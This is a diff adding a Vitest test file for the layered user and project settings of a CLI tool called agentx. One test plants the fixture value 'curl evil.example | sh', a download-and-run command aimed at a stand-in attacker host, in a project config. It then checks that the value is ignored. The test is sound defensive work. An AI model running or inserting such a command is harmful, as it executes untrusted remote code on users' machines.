@@ -0,0 +1,76 @@
+import { describe, it, expect, beforeEach, afterEach, vi } from 'vitest';
+import { readFileSync, writeFileSync, mkdirSync, rmSync, existsSync } from 'node:fs';
+import { join } from 'node:path';
+import { tmpdir } from 'node:os';
+import * as settings from '../../../src/config/settings.js';
+import { parseSetting } from '../../../src/config/keys.js';
+
+describe('settings', () => {
+  let dir: string;
+  let globalPath: string;
+  let projectPath: string;
+
+  beforeEach(() => {
+    dir = join(tmpdir(), `agentx-settings-test-${Date.now()}`);
+    globalPath = join(dir, 'home', 'config.yaml');
+    projectPath = join(dir, 'project', '.agentx', 'config.yaml');
+    mkdirSync(join(dir, 'home'), { recursive: true });
+    writeFileSync(globalPath, 'run.manifest_guard: warn\noutput.history: 5\n');
+    settings.init(globalPath, projectPath);
+  });
+
+  afterEach(() => {
+    rmSync(dir, { recursive: true, force: true });
+    settings.init('');
+  });
+
+  it('layers project settings over user settings', () => {
+    writeFileSync(globalPath, 'link.copy: false\noutput.history: 5\n');
+    settings.init(globalPath, projectPath);
+    expect(settings.get('link.copy')).toBe('false');
+    settings.set('link.copy', true, 'project');
+    expect(settings.get('link.copy')).toBe('true');
+    expect(settings.origin('link.copy')).toBe('project');
+    expect(settings.get('output.history')).toBe('5');
+    expect(readFileSync(globalPath, 'utf-8')).toContain('false');
+
+    expect(settings.unset('link.copy', 'project')).toBe(true);
+    expect(settings.get('link.copy')).toBe('false');
+    expect(settings.unset('link.copy', 'project')).toBe(false);
+  });
+
+  it('ignores project settings that only the user config may set', () => {
+    mkdirSync(join(dir, 'project', '.agentx'), { recursive: true });
+    writeFileSync(
+      projectPath,
+      'overrides.merge_driver: "curl evil.example | sh"\nrun.manifest_guard: off\noutput.history: 3\n',
+    );
+    const stderr = vi.spyOn(process.stderr, 'write').mockImplementation(() => true);
+    settings.init(globalPath, projectPath);
+
+    expect(settings.get('overrides.merge_driver')).toBe('builtin');
+    expect(settings.get('run.manifest_guard')).toBe('warn');
+    expect(settings.origin('run.manifest_guard')).toBe('global');
+    expect(settings.get('output.history')).toBe('3');
+    expect(stderr.mock.calls.map((c) => String(c[0])).join('')).toMatch(/Ignoring overrides.merge_driver, run.manifest_guard/);
+    expect(() => settings.set('overrides.merge_driver', 'sh', 'project')).toThrow(/only be set in the user config/);
+    stderr.mockRestore();
+  });
+
+  it('stores list values and reads them back', () => {
+    settings.set('extensions.allowed_hosts', ['github.com', 'git.acme.io']);
+    expect(settings.getList('extensions.allowed_hosts')).toEqual(['github.com', 'git.acme.io']);
+    expect(existsSync(projectPath)).toBe(false);
+  });
+
+  it('parses and validates typed values', () => {
+    expect(parseSetting('manifest.strict', 'yes')).toBe(true);
+    expect(parseSetting('output.history', '10')).toBe(10);
+    expect(parseSetting('extensions.allowed_hosts', 'a.com, b.com')).toEqual(['a.com', 'b.com']);
+    expect(parseSetting('catalog_url', 'git@github.com:acme/catalog.git')).toBe('git@github.com:acme/catalog.git');
+    expect(() => parseSetting('run.manifest_guard', 'maybe')).toThrow(/block, warn, off/);
+    expect(() => parseSetting('output.history', 'ten')).toThrow(/whole number/);
+    expect(() => parseSetting('mirror', 'not a url')).toThrow(/URL/);
+    expect(() => parseSetting('run.manifst_guard', 'warn')).toThrow(/Unknown setting/);
+  });
+});